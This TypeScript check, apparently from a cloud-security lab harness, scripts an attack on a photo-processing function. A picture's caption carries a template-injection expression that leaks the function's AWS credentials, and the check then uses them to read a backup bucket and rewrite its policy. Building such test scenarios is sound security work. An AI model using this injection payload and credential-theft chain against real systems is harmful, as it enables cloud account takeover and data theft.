import {
  GetObjectCommand,
  ListBucketsCommand,
  ListObjectsV2Command,
  PutBucketPolicyCommand,
  PutObjectCommand,
  S3Client,
} from '@aws-sdk/client-s3';
import { type CheckContext, fail, hex, type Outcome, pass, policy } from '../../server/kit.ts';
import { backupKey, buckets, canaryOf, picture } from './photos.ts';

/** A guest's picture runs code in the function; the role's credentials come back in the caption and are used from outside. */
export async function stealTheBackup(ctx: CheckContext): Promise<Outcome> {
  const { inBucket, outBucket, backup } = buckets(ctx);
  const kiosk = ctx.user('photo-kiosk').client(S3Client);
  const name = `${hex(ctx.random, 8)}.ppm`;
  const expression = `{{ [process.env.AWS_ACCESS_KEY_ID, process.env.AWS_SECRET_ACCESS_KEY, process.env.AWS_SESSION_TOKEN].join('|') }}`;
  const sent = await ctx.attempt(() =>
    kiosk.send(
      new PutObjectCommand({ Bucket: inBucket, Key: `uploads/${name}`, Body: picture(8, 8, [1, 2, 3], expression) }),
    ),
  );
  if (!sent.ok) return fail(`photo-kiosk cannot upload to ${inBucket}: ${sent.code}`);
  await ctx.settle();
  const back = await ctx.attempt(async () =>
    (await kiosk.send(new GetObjectCommand({ Bucket: outBucket, Key: `thumbs/${name}` }))).Body!.transformToString(
      'latin1',
    ),
  );
  const stolen = back.ok ? /caption: (ASIA[A-Z0-9]+)\|([^|\s]+)\|([^|\s]+)/.exec(back.value) : null;
  if (!stolen) return fail('the caption of a picture no longer brings credentials back');
  const thief = ctx
    .holder('whoever has the stolen credentials', {
      accessKeyId: stolen[1]!,
      secretAccessKey: stolen[2]!,
      sessionToken: stolen[3]!,
    })
    .client(S3Client);
  await ctx.attempt(() => thief.send(new ListBucketsCommand({})));
  await ctx.attempt(() => thief.send(new ListObjectsV2Command({ Bucket: backup })));
  const read = await ctx.attempt(async () =>
    (await thief.send(new GetObjectCommand({ Bucket: backup, Key: backupKey }))).Body!.transformToString(),
  );
  const opened = await ctx.attempt(() =>
    thief.send(
      new PutBucketPolicyCommand({
        Bucket: backup,
        Policy: policy({
          Effect: 'Allow',
          Principal: { AWS: `arn:aws:iam::${ctx.account().id}:root` },
          Action: 's3:GetObject',
          Resource: `arn:aws:s3:::${backup}/*`,
        }),
      }),
    ),
  );
  if (read.ok && read.value.includes(canaryOf(ctx)))
    return pass(`credentials stolen with a picture read ${backupKey} in ${backup}`);
  if (opened.ok) return pass(`credentials stolen with a picture rewrote the bucket policy of ${backup}`);
  return fail(`credentials stolen with a picture neither read ${backup} nor changed its policy`);
}
